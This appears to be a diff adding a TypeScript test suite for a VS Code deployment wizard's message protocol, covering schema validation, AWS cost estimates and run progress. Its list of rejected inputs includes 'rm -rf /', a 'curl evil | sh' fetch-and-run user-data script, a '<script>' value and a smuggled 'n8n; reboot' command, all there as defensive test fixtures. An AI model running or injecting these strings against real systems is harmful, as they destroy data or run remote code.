@@ -1,0 +1,81 @@
+import assert from 'node:assert/strict';
+import { GeuseError } from '../../src/engine/errors';
+import { CATALOGUE } from '../../src/engine/health/catalogue';
+import { stackConfigSchema, TIERS } from '../../src/engine/stack/config';
+import { checkMessage, MAX_MESSAGE_CHARS } from '../../src/protocol/receiver';
+import { hostToWizardSchema, WIZARD_TIERS, wizardToHostSchema, type WizardToHost } from '../../src/protocol/wizard';
+import { defaultDraft, draftInput, instanceChoices, vpcChoices } from '../../src/vscode/wizard/draft';
+import { draftToConfig } from '../../src/vscode/wizard/model';
+import { monthlyEstimate, reviewOf } from '../../src/vscode/wizard/review';
+import { applyEvent, finishRun, startRun } from '../../src/vscode/wizard/run-model';
+import { samplePlan, TYPES, VPCS } from '../webview/wizard-fixtures';
+
+const draft = { ...defaultDraft({ tier: 'dev', region: 'us-east-1', instanceType: 't3.xlarge', market: 'spot' }), name: 'demo' };
+
+describe('deploy wizard protocol and host-side shapes', () => {
+  it('spells out exactly the engine\'s tiers', () => {
+    assert.deepEqual([...WIZARD_TIERS], [...TIERS]);
+  });
+
+  it('a default draft is what the engine parses to its own defaults', () => {
+    const result = draftToConfig(draftInput(draft), { existingNames: new Set() });
+    assert.ok('config' in result);
+    assert.deepEqual(result.config, stackConfigSchema.parse({ name: 'demo' }));
+  });
+
+  it('accepts every request the webview may send', () => {
+    const valid: WizardToHost[] = [
+      { type: 'ready' }, { type: 'check', id: 1, step: 'basics', draft: { ...draft, name: 'Bad_Name' } }, { type: 'discover', id: 2, region: 'eu-west-1', profile: 'work' },
+      { type: 'instanceTypes', id: 3, region: 'us-east-1', tier: 'gpu' }, { type: 'plan', id: 4, draft }, { type: 'save', id: 5, draft }, { type: 'deploy', id: 6, draft },
+      { type: 'cancel', id: 7 }, { type: 'rollback', id: 8 }, { type: 'open', id: 9, service: 'n8n' },
+    ];
+    for (const message of valid) assert.deepEqual(checkMessage(wizardToHostSchema, message), { ok: true, message });
+  });
+
+  const hostile: [string, unknown][] = [
+    ['unknown type', { type: 'exec', id: 1, command: 'rm -rf /' }],
+    ['deploy without id', { type: 'deploy', draft }],
+    ['draft with an extra key', { type: 'deploy', id: 1, draft: { ...draft, userData: '#!/bin/sh\ncurl evil | sh' } }],
+    ['tier not in the engine', { type: 'check', id: 1, step: 'basics', draft: { ...draft, tier: '<script>' } }],
+    ['step not in the wizard', { type: 'check', id: 1, step: 'destroy', draft }],
+    ['oversized name', { type: 'check', id: 1, step: 'basics', draft: { ...draft, name: 'x'.repeat(65) } }],
+    ['service not in the catalogue', { type: 'open', id: 1, service: 'n8n; reboot' }],
+    ['too many models', { type: 'plan', id: 1, draft: { ...draft, ollamaModels: Array.from({ length: 17 }, (_, i) => `m${i}`) } }],
+    ['oversized payload', { type: 'cancel', id: 1, padding: 'x'.repeat(MAX_MESSAGE_CHARS) }],
+    ['not an object', 'deploy'],
+  ];
+  for (const [what, message] of hostile) {
+    it(`rejects ${what}, without echoing it`, () => {
+      const checked = checkMessage(wizardToHostSchema, message);
+      assert.equal(checked.ok, false);
+      if (!checked.ok) assert.doesNotMatch(checked.reason, /<script|rm -rf|reboot|curl/);
+    });
+  }
+
+  it('what the host sends is valid by the protocol: networks, types with estimated prices, the review, progress', () => {
+    assert.ok(hostToWizardSchema.safeParse({ type: 'networks', region: 'us-east-1', vpcs: vpcChoices(VPCS) }).success);
+    const types = instanceChoices(TYPES);
+    assert.equal(types.find((t) => t.type === 't3.xlarge')?.onDemandUsdPerHour, 0.1664);
+    assert.ok(hostToWizardSchema.safeParse({ type: 'instanceTypes', region: 'us-east-1', tier: 'dev', types }).success);
+    const review = reviewOf(samplePlan('demo'));
+    assert.ok(hostToWizardSchema.safeParse({ type: 'plan', review }).success);
+    // t3.xlarge 0.1664 × 730 = 121.47, 50 GiB × 0.08 = 4.00, IPv4 0.005 × 730 = 3.65
+    assert.deepEqual(review.monthly?.lines.map((l) => l.usd), [121.47, 4, 3.65]);
+    assert.equal(review.monthly?.totalUsd, 129.12);
+    assert.equal(monthlyEstimate(stackConfigSchema.parse({ name: 'demo', instanceType: 'x9.huge' })), undefined);
+  });
+
+  it('folds a run: rows from engine events, then done with the services, cancelled, or failed with the next step', () => {
+    const now = new Date('2025-06-01T12:00:00Z');
+    let run = startRun('deploy', 'demo', now);
+    run = applyEvent(run, { type: 'step-started', step: 'efs', title: 'EFS' });
+    run = applyEvent(run, { type: 'step-waiting', step: 'efs', waitingFor: 'EFS mount target in us-east-1b', elapsedMs: 3000 });
+    assert.equal(run.rows[0]?.detail, 'waiting for EFS mount target in us-east-1b…');
+    const done = finishRun(run, now, { services: [CATALOGUE.n8n, CATALOGUE.postgres] });
+    assert.deepEqual([done.phase, done.services], ['done', [{ name: 'n8n', displayName: 'n8n', canOpen: true }, { name: 'postgres', displayName: 'PostgreSQL', canOpen: false }]]);
+    assert.equal(finishRun(run, now, { error: new GeuseError({ code: 'CANCELLED', kind: 'cancelled', message: 'x', nextStep: 'y' }) }).phase, 'cancelled');
+    const failed = finishRun(run, now, { error: new GeuseError({ code: 'X', kind: 'capacity', message: 'No capacity.', nextStep: 'Try on-demand.' }) });
+    assert.deepEqual([failed.phase, failed.error], ['failed', { message: 'No capacity.', nextStep: 'Try on-demand.' }]);
+    assert.ok(hostToWizardSchema.safeParse({ type: 'progress', progress: failed }).success);
+  });
+});
